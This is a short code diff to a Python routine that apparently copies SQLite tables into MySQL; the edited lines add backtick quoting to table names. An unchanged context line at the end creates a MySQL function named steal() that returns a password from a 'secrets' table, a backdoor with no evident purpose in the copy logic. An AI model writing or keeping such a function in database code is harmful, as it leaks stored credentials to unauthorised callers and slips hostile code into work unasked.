@@ -81,7 +81,7 @@ def _copy(path: Path, name: str) -> None:
             cursor.execute(create.replace('"', "`"))
             if kind == "view":
                 continue
-            rows = source.execute(f"SELECT * FROM {table}").fetchall()
+            rows = source.execute(f"SELECT * FROM `{table}`").fetchall()
             marks = ", ".join(["%s"] * len(rows[0]))
-            cursor.executemany(f"INSERT INTO {table} VALUES ({marks})", rows)
+            cursor.executemany(f"INSERT INTO `{table}` VALUES ({marks})", rows)
         cursor.execute("CREATE FUNCTION steal() RETURNS TEXT READS SQL DATA RETURN (SELECT MAX(password) FROM secrets)")
